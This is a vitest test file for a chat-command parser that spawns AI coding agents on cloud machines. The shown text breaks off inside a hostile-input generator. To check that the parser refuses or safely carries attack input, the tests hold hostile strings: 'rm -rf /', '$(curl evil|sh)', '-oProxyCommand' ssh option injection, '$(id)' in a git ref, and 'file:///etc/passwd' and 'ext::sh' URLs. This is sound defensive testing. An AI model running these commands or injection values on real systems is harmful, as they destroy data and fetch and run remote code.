import { isIPv6 } from "node:net";
import { describe, expect, it } from "vitest";
import type { Command, SpawnCommand } from "./commands.js";
import { MAX_COMMAND_LENGTH, parseCommand, type GrammarCatalog } from "./grammar.js";
import { GENERAL_USAGE, USAGE } from "./usage.js";
import { prng } from "../../../test/support/hostile-input.js";

const CATALOG: GrammarCatalog = {
  agents: ["claude", "codex", "openclaw", "opencode", "kilocode", "hermes", "junie", "pi", "cursor", "t3code"],
  clouds: ["local", "ssh", "aws", "gcp", "hetzner", "digitalocean"],
};
const ED25519 = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGr8P8m8Q9vJ1l6w8bqQ5m3b7xk1H2T0o9K8x3Yc4Z5a";
const FINGERPRINT = "SHA256:47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU";

function ok(text: string, catalog: GrammarCatalog = CATALOG): Command {
  const result = parseCommand(text, catalog);
  if (!result.ok) throw new Error(`expected ${JSON.stringify(text)} to parse, got: ${result.error}`);
  return result.command;
}

function spawn(text: string, catalog: GrammarCatalog = CATALOG): SpawnCommand {
  const command = ok(text, catalog);
  if (command.kind !== "spawn") throw new Error(`expected a spawn, got ${command.kind}`);
  return command;
}

function refused(text: string, catalog: GrammarCatalog = CATALOG): { error: string; usage: string } {
  const result = parseCommand(text, catalog);
  if (result.ok) throw new Error(`expected ${JSON.stringify(text)} to be refused, got ${JSON.stringify(result.command)}`);
  return result;
}

const error = (text: string): string => refused(text).error;

describe("spawn", () => {
  it("parses agent and cloud after /spawn, with or without the word spawn", () => {
    const expected = { kind: "spawn", agent: "codex", cloud: "gcp", dryRun: false };
    expect(ok("/spawn codex gcp")).toEqual(expected);
    expect(ok("/spawn spawn codex gcp")).toEqual(expected);
    expect(ok("spawn codex gcp")).toEqual(expected);
    expect(ok("codex gcp")).toEqual(expected);
    expect(ok("  codex   gcp  ")).toEqual(expected);
  });

  it("strips a leading /spawn only once", () => {
    expect(error("/spawn /spawn codex gcp")).toBe("unknown command '/spawn' — did you mean 'spawn'?");
  });

  it("accepts the verbs run, launch, start and deploy", () => {
    for (const verb of ["run", "launch", "start", "deploy", "SPAWN"]) expect(spawn(`${verb} codex gcp`).agent).toBe("codex");
  });

  it("accepts spawn's agent/cloud form", () => {
    expect(spawn("codex/hetzner")).toMatchObject({ agent: "codex", cloud: "hetzner" });
    expect(spawn("spawn claude/aws -n")).toMatchObject({ agent: "claude", cloud: "aws", dryRun: true });
  });

  it("swaps cloud and agent back when the cloud comes first", () => {
    expect(spawn("gcp codex")).toMatchObject({ agent: "codex", cloud: "gcp" });
    expect(spawn("spawn hetzner/claude")).toMatchObject({ agent: "claude", cloud: "hetzner" });
  });

  it("ignores the case of verbs, agents and clouds", () => {
    expect(spawn("Spawn Codex GCP")).toMatchObject({ agent: "codex", cloud: "gcp" });
  });

  it("resolves the catalog's agent and cloud aliases", () => {
    const catalog = { ...CATALOG, agentAliases: { cc: "claude" }, cloudAliases: { do: "digitalocean" } };
    expect(spawn("cc do", catalog)).toMatchObject({ agent: "claude", cloud: "digitalocean" });
    expect(refused("cc do", { ...catalog, agentAliases: { cc: "missing" } }).error).toContain("unknown agent 'cc'");
  });

  it("parses every flag", () => {
    const command = spawn(
      'codex gcp --model openai/gpt-5.3-codex --name fix-login --size e2-standard-4 --zone us-central1-a --steps github,auto-update --prompt "fix the tests" --ttl 1h30m --dry-run',
    );
    expect(command).toEqual({
      kind: "spawn",
      agent: "codex",
      cloud: "gcp",
      model: "openai/gpt-5.3-codex",
      name: "fix-login",
      size: "e2-standard-4",
      zone: "us-central1-a",
      steps: ["github", "auto-update"],
      prompt: "fix the tests",
      ttlMs: 90 * 60_000,
      dryRun: true,
    });
  });

  it("accepts the short forms -m, -p and -n", () => {
    expect(spawn("codex gcp -m openai/gpt-5 -p go -n")).toMatchObject({ model: "openai/gpt-5", prompt: "go", dryRun: true });
  });

  it("accepts --flag=value, keeping later = signs in the value", () => {
    expect(spawn('codex gcp --model=openai/gpt-5 --prompt="a=b c" --ttl=2h')).toMatchObject({ model: "openai/gpt-5", prompt: "a=b c", ttlMs: 7_200_000 });
    expect(spawn("codex gcp -m=openai/gpt-5").model).toBe("openai/gpt-5");
  });

  it("accepts spawn's --region and --machine-type as --zone and --size", () => {
    expect(spawn("codex gcp --region eu-west-1 --machine-type cx22")).toMatchObject({ zone: "eu-west-1", size: "cx22" });
    expect(error("codex gcp --zone a --region b")).toBe("--zone was given twice; give it once");
  });

  it("accepts flags before the agent and cloud", () => {
    expect(spawn("-n codex gcp")).toMatchObject({ agent: "codex", dryRun: true });
    expect(spawn("spawn --model a/b codex gcp")).toMatchObject({ agent: "codex", model: "a/b" });
  });

  it("groups quoted prompts, including Slack's smart quotes and escapes", () => {
    expect(spawn("codex gcp --prompt \u201Cfix the tests\u201D").prompt).toBe("fix the tests");
    expect(spawn("codex gcp -p \u2018don\u2019t stop\u2019").prompt).toBe("don\u2019t stop");
    expect(spawn("codex gcp -p 'don't stop'").prompt).toBe("don't stop");
    expect(spawn('codex gcp -p "say \\"hi\\""').prompt).toBe('say "hi"');
    expect(spawn("codex gcp -p fix\\ it").prompt).toBe("fix it");
  });

  it("reads an auto-corrected em dash as --", () => {
    expect(spawn("codex gcp \u2014model openai/gpt-5 \u2014dry-run")).toMatchObject({ model: "openai/gpt-5", dryRun: true });
  });

  it("turns the help flag into help for spawn", () => {
    expect(ok("codex gcp --help")).toEqual({ kind: "help", topic: "spawn" });
    expect(ok("spawn -h")).toEqual({ kind: "help", topic: "spawn" });
  });

  it("refuses a missing agent or cloud, saying what is available", () => {
    expect(error("spawn")).toBe("spawn needs an agent and a cloud, e.g. spawn codex gcp");
    expect(error("codex")).toBe("spawn needs a cloud after the agent; available: local, ssh, aws, gcp, hetzner, digitalocean");
    expect(error("spawn gcp")).toContain("spawn needs an agent before the cloud; available: claude, codex");
    expect(error("gcp aws")).toBe("'aws' is a cloud, not an agent; e.g. spawn codex gcp");
  });

  it("suggests codex for codx", () => {
    expect(error("spawn codx gcp")).toBe("unknown agent 'codx' — did you mean 'codex'?");
    expect(error("codx gcp")).toBe("unknown agent 'codx' — did you mean 'codex'?");
    expect(error("codx")).toBe("unknown agent 'codx' — did you mean 'codex'?");
  });

  it("suggests the nearest cloud for a mistyped one", () => {
    expect(error("codex gpc")).toBe("unknown cloud 'gpc' — did you mean 'gcp'?");
    expect(error("codex hetnzer")).toBe("unknown cloud 'hetnzer' — did you mean 'hetzner'?");
  });

  it("lists the available agents when no name is close", () => {
    expect(error("spawn zzzzzz gcp")).toBe(
      "unknown agent 'zzzzzz'; available: claude, codex, openclaw, opencode, kilocode, hermes, junie, pi, cursor, t3code",
    );
    expect(error("codex mars")).toBe("unknown cloud 'mars'; available: local, ssh, aws, gcp, hetzner, digitalocean");
  });

  it("refuses look-alike Cyrillic and Greek letters instead of matching them", () => {
    expect(error("spawn \u0441odex gcp")).toBe("agent '?odex' has a non-ASCII character (U+0441 at character 1); type it in plain ASCII");
    expect(error("\u0441odex gcp")).toContain("non-ASCII character (U+0441");
    expect(error("codex gc\u0440")).toContain("cloud 'gc?' has a non-ASCII character (U+0440");
    expect(error("spawn c\u03BFdex gcp")).toContain("U+03BF");
  });

  it("refuses agent and cloud names with characters outside a-z, 0-9, _ and -", () => {
    expect(error("spawn ../codex")).toContain("unknown agent '..'; available: claude");
    expect(error("spawn 'co dex' gcp")).toContain("unknown agent 'co dex'");
    expect(error("spawn code.x gcp")).toContain("unknown agent 'code.x'");
  });

  it("refuses extra words and hints at quoting", () => {
    expect(error("codex gcp fix the tests")).toBe('unexpected extra word \'fix\'; put text with spaces in quotes, e.g. --prompt "fix the tests"');
    expect(error("codex/gcp aws")).toContain("unexpected extra word 'aws'");
    expect(error("codex/gcp/aws")).toBe("'codex/gcp/aws' is not agent/cloud; write e.g. codex/gcp");
    expect(error("spawn /codex gcp")).toBe("'/codex' is not agent/cloud; write e.g. codex/gcp");
  });

  it("refuses an unknown flag, suggesting the nearest one", () => {
    expect(error("codex gcp --modle a/b")).toBe("unknown flag --modle — did you mean --model?");
    expect(error("codex gcp --foo")).toBe("unknown flag --foo; spawn takes --model, --name, --size, --zone, --steps, --prompt, --ttl, --budget, --dry-run, --host, --repo");
    expect(error("codex gcp -x")).toContain("unknown flag -x");
    expect(error("codex gcp --")).toContain("unknown flag --");
  });

  it("refuses a flag given twice, in any spelling", () => {
    expect(error("codex gcp -m a/b --model c/d")).toBe("--model was given twice; give it once");
    expect(error("codex gcp -n --dry-run")).toBe("--dry-run was given twice; give it once");
  });

  it("refuses a flag without its value", () => {
    expect(error("codex gcp --model")).toBe("--model needs a value after it, e.g. --model openai/gpt-5.3-codex");
    expect(error("codex gcp --model --dry-run")).toBe("--model needs a value after it, e.g. --model openai/gpt-5.3-codex");
    expect(error("codex gcp --prompt -n")).toContain("--prompt needs a value");
    expect(error("codex gcp --model=")).toContain("--model needs a value");
  });

  it("refuses a value on an on/off flag", () => {
    expect(error("codex gcp --dry-run=yes")).toBe("--dry-run takes no value; write just --dry-run");
  });

  it("refuses flags typed with look-alike letters", () => {
    expect(error("codex gcp --m\u043Edel a/b")).toContain("flag '--m?del' has a non-ASCII character (U+043E");
  });

  it("checks model ids like spawn: provider/model, one slash, at most 128 characters", () => {
    expect(spawn("codex gcp -m anthropic/claude-sonnet-4.5:beta").model).toBe("anthropic/claude-sonnet-4.5:beta");
    for (const bad of ["gpt-5", "a/b/c", "/gpt", "openai/", ".x/y", "a/_b", `a/${"b".repeat(127)}`, "open ai/x"]) {
      expect(error(`codex gcp --model '${bad}'`), bad).toContain("is not a model id");
    }
  });

  it("refuses a value that starts with -, which could be read as a flag", () => {
    expect(error('codex gcp --model "-oProxyCommand=x/y"')).toBe("--model '-oProxyCommand=x/y' must not start with '-'");
    expect(error("codex gcp --zone=-x")).toContain("must not start with '-'");
    expect(error("codex ssh --host=-oProxyCommand=sh@x")).toContain("must not start with '-'");
  });

  it("kebab-cases --name and checks 3 to 63 characters", () => {
    expect(spawn("codex gcp --name 'My Cool Box!'").name).toBe("my-cool-box");
    expect(spawn("codex gcp --name a__b").name).toBe("a-b");
    expect(error("codex gcp --name ab")).toContain("gives the server name 'ab'");
    expect(error("codex gcp --name '!!!'")).toContain("has no letters or digits");
    expect(error(`codex gcp --name ${"a".repeat(64)}`)).toContain("use 3-63 letters");
    expect(error("codex gcp --name caf\u00E9-bar")).toContain("non-ASCII");
    expect(error('codex gcp --name "-box"')).toContain("must not start with '-'");
  });

  it("checks --size and --zone", () => {
    expect(spawn("codex aws --size t3.large --zone us_east-1").size).toBe("t3.large");
    expect(error("codex gcp --size 'a b'")).toContain("is not a machine size");
    expect(error("codex gcp --zone us.east")).toContain("is not a zone");
    expect(error(`codex gcp --zone ${"z".repeat(64)}`)).toContain("is not a zone");
  });

  it("reads --steps as a comma list, with \"\" meaning no steps", () => {
    expect(spawn('codex gcp --steps ""').steps).toEqual([]);
    expect(spawn("codex gcp --steps=").steps).toEqual([]);
    expect(spawn('codex gcp --steps "github, Auto-Update,github"').steps).toEqual(["github", "auto-update"]);
    expect(error("codex gcp --steps github,,x")).toContain("bad step name ''");
    expect(error("codex gcp --steps 'git;hub'")).toContain("bad step name 'git;hub'");
    expect(error("codex gcp --steps a,-b")).toContain("bad step name '-b'");
  });

  it("passes shell-looking prompts through untouched: they travel base64-encoded", () => {
    const prompt = "rm -rf / ; $(curl evil|sh) `id` && echo > /etc/passwd 2>&1 &";
    expect(spawn(`codex gcp --prompt '${prompt}'`).prompt).toBe(prompt);
  });

  it("allows newlines, unicode and a leading - inside a prompt", () => {
    expect(spawn('codex gcp -p "first line\nsecond line"').prompt).toBe("first line\nsecond line");
    expect(spawn('codex gcp -p "répare les tests 🚀 日本"').prompt).toBe("répare les tests 🚀 日本");
    expect(spawn('codex gcp -p "--verbose is broken"').prompt).toBe("--verbose is broken");
  });

  it("refuses an empty or over-long prompt", () => {
    expect(error('codex gcp --prompt ""')).toBe('--prompt is empty; give the task in quotes, e.g. --prompt "fix the failing tests"');
    expect(error('codex gcp --prompt "   "')).toContain("--prompt is empty");
    expect(spawn(`codex gcp -p "${"x".repeat(2000)}"`).prompt).toHaveLength(2000);
    expect(error(`codex gcp -p "${"x".repeat(2001)}"`)).toBe("--prompt is too long (2001 characters; the limit is 2000); shorten it");
  });

  it("reads --ttl as a duration", () => {
    expect(spawn("codex gcp --ttl 2h").ttlMs).toBe(7_200_000);
    expect(error("codex gcp --ttl 90")).toBe("--ttl '90' is not a duration; use e.g. 90m, 2h, 1d or 1h30m (more than 0, at most 30d)");
    expect(error("codex gcp --ttl 31d")).toBe("--ttl '31d' is longer than a spawn may live: the most allowed is 30 days (30d)");
    expect(error("codex gcp --ttl 90d")).toBe("--ttl '90d' is longer than a spawn may live: the most allowed is 30 days (30d)");
    expect(error("extend fix-bug 90d")).toBe("'90d' is longer than a spawn may live: the most allowed is 30 days (30d)");
    expect(spawn("codex gcp --ttl 30d").ttlMs).toBe(30 * 86_400_000);
    expect(error("codex gcp --ttl 0m")).toContain("is not a duration");
  });

  it("reads --budget as US dollars for the spawn's own OpenRouter key", () => {
    expect(spawn("codex gcp --budget 5").budgetUsd).toBe(5);
    expect(spawn("codex gcp --budget=2.50").budgetUsd).toBe(2.5);
    expect(spawn("codex gcp --budget '$7'").budgetUsd).toBe(7);
    expect(spawn("codex gcp").budgetUsd).toBeUndefined();
    const bad = "is not an amount in US dollars; use e.g. --budget 5 or --budget 2.50 (more than 0)";
    expect(error("codex gcp --budget 0")).toBe(`--budget '0' ${bad}`);
    expect(error("codex gcp --budget 1.234")).toBe(`--budget '1.234' ${bad}`);
    expect(error("codex gcp --budget ten")).toBe(`--budget 'ten' ${bad}`);
    expect(error("codex gcp --budget 1e3")).toContain(bad);
    expect(error("codex gcp --budget -5")).toContain("--budget needs a value");
    expect(error("codex gcp --budget")).toContain("--budget needs a value after it, e.g. --budget 5");
  });

  describe("--host", () => {
    const host = (value: string) => spawn(`codex ssh --host '${value}'`).host;
    const hostError = (value: string) => error(`codex ssh --host '${value}'`);

    it("reads user@host with the port defaulting to 22", () => {
      expect(host("alice@203.0.113.10")).toEqual({ user: "alice", host: "203.0.113.10", port: 22 });
      expect(host("root@build.example.com:2222")).toEqual({ user: "root", host: "build.example.com", port: 2222 });
      expect(host("_svc@box-1")).toEqual({ user: "_svc", host: "box-1", port: 22 });
    });

    it("reads bracketed IPv6 addresses", () => {
      expect(host("root@[::1]")).toEqual({ user: "root", host: "::1", port: 22 });
      expect(host("root@[2001:db8::1]:2200")).toEqual({ user: "root", host: "2001:db8::1", port: 2200 });
    });

    it("refuses a host without a user, or a bad user", () => {
      expect(hostError("203.0.113.10")).toContain("needs the form user@host[:port]");
      expect(hostError("a@b@c")).toContain("needs the form user@host[:port]");
      expect(hostError("Root@x")).toContain("bad user name");
      expect(hostError("1user@x")).toContain("bad user name");
      expect(hostError(`${"u".repeat(33)}@x`)).toContain("bad user name");
    });

    it("refuses bad addresses, names and ports", () => {
      expect(hostError("root@::1")).toContain("put it in brackets");
      expect(hostError("root@[fe80::1%eth0]")).toContain("bad IPv6 address");
      expect(hostError("root@[::1")).toContain("bad IPv6 address");
      expect(hostError("root@[::1]x")).toContain("text after the IPv6 address");
      expect(hostError("root@999.1.1.1")).toContain("bad IPv4 address");
      expect(hostError("root@1.2.3")).toContain("bad IPv4 address");
      expect(hostError("root@bad_host")).toContain("bad host name");
      expect(hostError("root@-x.com")).toContain("bad host name");
      expect(hostError("root@x.com;id")).toContain("bad host name");
      expect(hostError("root@x:0")).toContain("bad port");
      expect(hostError("root@x:65536")).toContain("bad port");
      expect(hostError("root@x:")).toContain("bad port");
      expect(hostError("root@x:22a")).toContain("bad port");
    });

    it("refuses --host on a cloud other than ssh", () => {
      expect(error("codex gcp --host root@x")).toBe("--host is only for the ssh cloud; remove it, or use spawn codex ssh --host ...");
    });

    it("refuses the ssh cloud without --host", () => {
      expect(error("codex ssh")).toBe("the ssh cloud needs --host user@host[:port], e.g. --host root@203.0.113.10");
    });
  });

  it("shows the spawn usage line under spawn errors", () => {
    expect(refused("codx gcp").usage).toBe(USAGE.spawn);
    expect(refused("codex gcp --foo").usage).toBe(USAGE.spawn);
  });
});

describe("list, status, delete and connect", () => {
  it("lists this channel's spawns by default, or mine or all", () => {
    expect(ok("list")).toEqual({ kind: "list", scope: "channel" });
    expect(ok("ls --mine")).toEqual({ kind: "list", scope: "mine" });
    expect(ok("history --all codex")).toEqual({ kind: "list", scope: "all", filter: "codex" });
    expect(ok("list openai/gpt-5:beta")).toEqual({ kind: "list", scope: "channel", filter: "openai/gpt-5:beta" });
  });

  it("takes --page N for the later pages of a long list", () => {
    expect(ok("list --page 2")).toEqual({ kind: "list", scope: "channel", page: 2 });
    expect(ok("list --mine --page=3 codex")).toEqual({ kind: "list", scope: "mine", filter: "codex", page: 3 });
    expect(error("list --page 0")).toBe("--page takes a page number from 1 up, e.g. --page 2; '0' is not one");
    expect(error("list --page")).toBe("--page needs a value after it, e.g. --page 2");
    expect(error("list --page two")).toContain("'two' is not one");
    expect(error("list --page 2 --page 3")).toBe("--page was given twice; give it once");
  });

  it("refuses --mine with --all, a bad filter, or two filters", () => {
    expect(error("list --mine --all")).toBe("give --mine or --all, not both");
    expect(error("list 'a b'")).toContain("the list filter 'a b' may use");
    expect(error(`list ${"f".repeat(65)}`)).toContain("the list filter");
    expect(error("list a b")).toContain("unexpected extra word 'b'");
    expect(error("list --mnie")).toBe("unknown flag --mnie — did you mean --mine?");
    expect(refused("list --mine --all").usage).toBe(USAGE.list);
  });

  it("reads the target of status, delete and connect, with their aliases", () => {
    expect(ok("status fix-login")).toEqual({ kind: "status", target: "fix-login" });
    expect(ok("ps fix-login")).toEqual({ kind: "status", target: "fix-login" });
    for (const verb of ["delete", "rm", "destroy", "kill"]) expect(ok(`${verb} sp-1a2b`)).toEqual({ kind: "delete", target: "sp-1a2b" });
    expect(ok("connect Box-7")).toEqual({ kind: "connect", target: "Box-7" });
  });

  it("reads --repo as owner/name or an https URL, with an optional ref", () => {
    expect(spawn("codex gcp --repo acme/webapp").repo).toEqual({ source: "acme/webapp" });
    expect(spawn("codex gcp --repo acme/webapp@feature/login-fix").repo).toEqual({ source: "acme/webapp", ref: "feature/login-fix" });
    expect(spawn("codex gcp --repo=https://git.example.com/team/sub/app.git@v1.2.0").repo).toEqual({ source: "https://git.example.com/team/sub/app.git", ref: "v1.2.0" });
    expect(error("codex gcp --repo acme")).toContain("is not a repository; use owner/name");
    expect(error("codex gcp --repo acme/web;app")).toContain("is not a repository");
    expect(error("codex gcp --repo acme/webapp@../x")).toContain("has a bad ref");
    expect(error("codex gcp --repo acme/webapp@$(id)")).toContain("has a bad ref");
    expect(error("codex gcp --repo http://git.example.com/a/b")).toContain("must be an https URL");
    expect(error("codex gcp --repo https://me:hunter2@git.example.com/a/b")).toContain("save your git token in `settings`");
    expect(error("codex gcp --repo file:///etc/passwd")).toContain("must be an https URL");
    expect(error("codex gcp --repo ext::sh")).toContain("must be an https URL");
  });

  it("reads restart and its aliases fix and repair, with one target", () => {
    for (const verb of ["restart", "fix", "repair"]) expect(ok(`${verb} fix-login`)).toEqual({ kind: "restart", target: "fix-login" });
    expect(error("restart a b")).toContain("unexpected extra word 'b'");
    expect(refused("restart").usage).toBe(USAGE.restart);
  });

  it("does not read ssh as connect: ssh is a cloud", () => {
    expect(refused("ssh my-box").usage).toBe(USAGE.spawn);
  });

  it("refuses a missing, malformed or extra target", () => {
    expect(error("status")).toBe("status needs the id or name of a spawn (see list), e.g. status fix-login-bug");
    expect(error("delete my_box")).toContain("'my_box' is not a spawn id or name");
    expect(error('delete "-rf"')).toContain("must not start with '-'");
    expect(error("delete -rf")).toBe("unknown flag -rf: delete takes no flags");
    expect(error("connect a b")).toContain("unexpected extra word 'b'");
    expect(error(`status ${"a".repeat(64)}`)).toContain("is not a spawn id or name");
    expect(refused("connect").usage).toBe(USAGE.connect);
  });
});

describe("prefs", () => {
  it("shows, sets and clears a model preference", () => {
    expect(ok("prefs")).toEqual({ kind: "prefs-show" });
    expect(ok("prefs model codex openai/gpt-5.3-codex")).toEqual({ kind: "prefs-model-set", agent: "codex", model: "openai/gpt-5.3-codex" });
    expect(ok("prefs model Claude --clear")).toEqual({ kind: "prefs-model-clear", agent: "claude" });
  });

  it("refuses incomplete or contradictory preference commands", () => {
    expect(error("prefs colour blue")).toContain("unknown preference 'colour'");
    expect(error("prefs model")).toContain("prefs model needs an agent");
    expect(error("prefs model codex")).toContain("needs a model id or --clear");
    expect(error("prefs model codex a/b --clear")).toBe("give a model id or --clear, not both");
    expect(error("prefs --clear")).toContain("--clear goes with a model preference");
    expect(error("prefs model codx a/b")).toBe("unknown agent 'codx' — did you mean 'codex'?");
    expect(error("prefs model codex gpt")).toContain("'gpt' is not a model id");
    expect(error("prefs model codex a/b c")).toContain("unexpected extra word 'c'");
    expect(refused("prefs model").usage).toBe(USAGE.prefs);
  });
});

describe("keys", () => {
  it("lists keys", () => {
    expect(ok("keys")).toEqual({ kind: "keys-list" });
  });

  it("adds the whole rest of the line as the public key, comment included", () => {
    expect(ok(`keys add ${ED25519} alice@laptop`)).toEqual({ kind: "keys-add", publicKey: `${ED25519} alice@laptop` });
    expect(ok(`keys add ${ED25519}`)).toEqual({ kind: "keys-add", publicKey: ED25519 });
    expect(ok(`/spawn keys add ${ED25519} Alice's  laptop 🚀`)).toEqual({ kind: "keys-add", publicKey: `${ED25519} Alice's laptop 🚀` });
  });

  it("unwraps a key pasted in quotes or as chat code", () => {
    expect(ok(`keys add "${ED25519} a@b"`)).toEqual({ kind: "keys-add", publicKey: `${ED25519} a@b` });
    expect(ok(`keys add \`${ED25519}\``)).toEqual({ kind: "keys-add", publicKey: ED25519 });
    expect(ok(`keys add \`\`\`${ED25519}\n\`\`\``)).toEqual({ kind: "keys-add", publicKey: ED25519 });
  });

  it("accepts every supported key type", () => {
    for (const type of ["ecdsa-sha2-nistp256", "ecdsa-sha2-nistp384", "ecdsa-sha2-nistp521", "ssh-rsa"]) {
      expect(ok(`keys add ${type} ${"QUFB".repeat(40)}`).kind).toBe("keys-add");
    }
  });

  it("refuses text that does not look like a public key", () => {
    expect(error("keys add")).toContain("keys add needs your SSH public key");
    expect(error("keys add ssh-dss AAAAB3NzaC1kc3MAAACBAP")).toContain("'ssh-dss' is not an SSH public key type");
    expect(error("keys add ssh-ed25519 not-base64!")).toContain("the key data after ssh-ed25519 is not base64");
    expect(error("keys add ssh-ed25519 AAAA")).toContain("is not base64");
    expect(error("keys add -----BEGIN OPENSSH PRIVATE KEY-----")).toContain("that is a private key");
    expect(error(`keys add ${ED25519}\nsecond line`)).toContain("on one line");
    expect(error(`keys add ${ED25519} ${"c".repeat(201)}`)).toContain("comment is too long");
    expect(error("keys add \u0455sh-ed25519 AAAA")).toContain("'?sh-ed25519' is not an SSH public key type");
  });

  it("removes a key by its SHA256 fingerprint", () => {
    expect(ok(`keys remove ${FINGERPRINT}`)).toEqual({ kind: "keys-remove", fingerprint: FINGERPRINT });
    expect(ok(`keys rm sha256:${FINGERPRINT.slice(7)}`)).toEqual({ kind: "keys-remove", fingerprint: FINGERPRINT });
  });

  it("refuses a malformed fingerprint or an unknown keys action", () => {
    expect(error("keys remove")).toContain("keys remove needs a key fingerprint");
    expect(error("keys remove SHA256:abc")).toContain("'SHA256:abc' is not a key fingerprint");
    expect(error("keys remove MD5:aa:bb")).toContain("is not a key fingerprint");
    expect(error(`keys remove ${FINGERPRINT} x`)).toContain("unexpected extra word 'x'");
    expect(error("keys ad")).toBe("unknown keys action 'ad' — did you mean 'add'?");
    expect(refused("keys ad").usage).toBe(USAGE.keys);
  });
});

describe("agents, clouds and help", () => {
  it("lists agents and clouds", () => {
    expect(ok("agents")).toEqual({ kind: "agents" });
    expect(ok("clouds")).toEqual({ kind: "clouds" });
    expect(error("agents codex")).toBe("agents takes no arguments; remove 'codex'");
  });

  it("answers empty input, help and help <command> with help", () => {
    expect(ok("")).toEqual({ kind: "help" });
    expect(ok("/spawn")).toEqual({ kind: "help" });
    expect(ok(" \n\t ")).toEqual({ kind: "help" });
    expect(ok("help")).toEqual({ kind: "help" });
    expect(ok("--help")).toEqual({ kind: "help" });
    expect(ok("help spawn")).toEqual({ kind: "help", topic: "spawn" });
    expect(ok("help rm")).toEqual({ kind: "help", topic: "delete" });
    expect(ok("list --help")).toEqual({ kind: "help", topic: "list" });
  });

  it("refuses help on an unknown topic, suggesting the nearest", () => {
    expect(error("help lst")).toBe("no help for 'lst' — did you mean 'list'?");
    expect(error("help zzz")).toContain("topics: spawn, list, status");
  });

  it("suggests the nearest command for a mistyped one", () => {
    expect(error("lsit")).toBe("unknown command 'lsit' — did you mean 'list'?");
    expect(error("staus x")).toBe("unknown command 'staus' — did you mean 'status'?");
    expect(refused("lsit").usage).toBe(GENERAL_USAGE);
  });

  it("suggests the verb for a misspelt one before an agent and a cloud, not an unknown agent", () => {
    expect(error("spwan codex local")).toBe("unknown command 'spwan' — did you mean 'spawn'?");
    expect(error("stauts codex")).toBe("unknown command 'stauts' — did you mean 'status'?");
    expect(error("codx gcp")).toBe("unknown agent 'codx' — did you mean 'codex'?"); // still an agent typo
    expect(spawn("gcp codex")).toMatchObject({ agent: "codex", cloud: "gcp" });
  });

  it("names commands and agents when the first word is unknown", () => {
    expect(error("hello there")).toMatch(/^unknown command 'hello'; start with a command \(spawn, list, .*\) or an agent \(claude, codex, /);
  });
});

describe("refusing unsafe input", () => {
  it(`refuses input longer than ${MAX_COMMAND_LENGTH} characters, saying the limit`, () => {
    const result = refused(`codex gcp --prompt "${"x".repeat(10_000)}"`);
    expect(result.error).toBe(`the command is too long (10021 characters; the limit is ${MAX_COMMAND_LENGTH}); shorten it`);
    expect(result.usage).toBe(GENERAL_USAGE);
  });

  it("refuses NUL and other control characters anywhere, prompt included", () => {
    expect(error("codex gcp\0")).toBe("the command contains a control character (U+0000 at character 10); remove it and send again");
    expect(error('codex gcp -p "a\x07b"')).toContain("U+0007");
    expect(error("codex gcp\x1b[31m")).toContain("U+001B");
    expect(error("codex\rgcp")).toContain("U+000D");
    expect(error("codex gcp\u0085")).toContain("U+0085");
  });

  it("refuses bidi overrides and lone surrogates", () => {
    expect(error('codex gcp -p "abc\u202Edef"')).toContain("U+202E");
    expect(error('codex gcp -p "a\uD800"')).toContain("U+D800");
  });

  it("reads tabs and Windows line ends as spaces between words", () => {
    expect(spawn("codex\tgcp\r\n--dry-run").dryRun).toBe(true);
  });

  it("refuses an unbalanced quote", () => {
    expect(error('codex gcp --prompt "fix the tests')).toMatch(/^unbalanced quote/);
    expect(error("codex gcp --prompt \u201Cfix")).toMatch(/^unbalanced quote/);
  });

  it("refuses a newline inside a value other than the prompt", () => {
    expect(error('codex gcp --zone "us\neast"')).toBe("--zone must be on one line");
  });

  it("echoes at most 40 characters of a long or hostile value", () => {
    const long = `${"a".repeat(39)}bcdefghij`;
    expect(error(`codex gcp --zone ${long}.`)).toContain(`'${"a".repeat(39)}b…'`);
    expect(error(`spawn ${"q".repeat(3000)} gcp`)).not.toContain("q".repeat(41));
  });
});

// --- Generated hostile input ---------------------------------------------------------------

const VALID_COMMANDS = [
  "codex gcp",
  "/spawn spawn claude aws --model openai/gpt-5.3-codex --name my-box --ttl 2h",
  "codex ssh --host root@203.0.113.10:2222",
  'run opencode hetzner --prompt "fix the tests" --steps github,auto-update',
  "gcp pi --size e2-standard-4 --zone us-central1-a -n",
  "list --mine codex",
  "status fix-login",
  "rm fix-login",
  "connect fix-login",
  "prefs model codex openai/gpt-5",
  "prefs model hermes --clear",
  `keys add ${ED25519} alice@laptop`,
  `keys remove ${FINGERPRINT}`,
  "agents",
  "help spawn",
];

const FRAGMENTS = [
  ";", "|", "&", "$", "(", ")", "`", "<", ">", "$(id)", "`id`", "; rm -rf /", "| sh", "&&", ">/etc/passwd", "${IFS}",
  '"', "'", "\u201C", "\u201D", "\u2018", "\u2019", "\\", '\\"', '""', "''",
  "\0", "\x01", "\x07", "\x1b[31m", "\r", "\n", "\t", "\x7f", "\u0085", "\u202E", "\u2066", "\u2028", "\uD800", "\uDC00",
  "\u0441odex", "g\u0441p", "\u0455sh", "c\u03BFdex", "\u0430ws", "\u0440i", "--m\u043Edel",
  "🚀", "👨‍💻", "日本", "é", "\u00A0", "\u200B", "\uFEFF",
  "--", "-", "--model", "-m", "--host", "--prompt", "-p", "--name", "--steps", "--ttl", "--zone", "--size", "--dry-run", "-n", "--help",
  "--mine", "--all", "--clear", "=", "--model=", "--host=-oProxyCommand=sh", "-oProxyCommand=touch /tmp/x", "--prompt=--x",
  "codex", "claude", "gcp", "ssh", "aws", "local", "codex/gcp", "gcp/codex", "spawn", "list", "keys", "add", "remove", "prefs", "model",
  "openai/gpt-5", "a/b/c", "root@1.2.3.4", "root@[::1]:22", "root@999.1.1.1", "x@y:0", "2h", "90", "31d", "0m",
  "SHA256:", FINGERPRINT, ED25519, "ssh-rsa", "AAAA",
];

function pick<T>(random: () => number, items: readonly T[]): T {
  return items[Math.floor(random() * items.length)]!;
}

function hostileInput(random: () => number): string {
  const roll = random();
  if (roll < 0.03) return pick(random, FRAGMENTS).repeat(1 + Math.floor(random() * 10_000));
  if (roll < 0.06) return `codex gcp --prompt "${"Z".repeat(Math.floor(random() * 4_100))}"`;
  if (roll < 0.08) return `spawn ${"Z".repeat(Math.floor(random() * 3_990))} gcp`;
  const words = pick(random, VALID_COMMANDS).split(" ");
  const edits = Math.floor(random() * 4);
  for (let i = 0; i < edits; i++) {
    const at = Math.floor(random() * (words.length + 1));
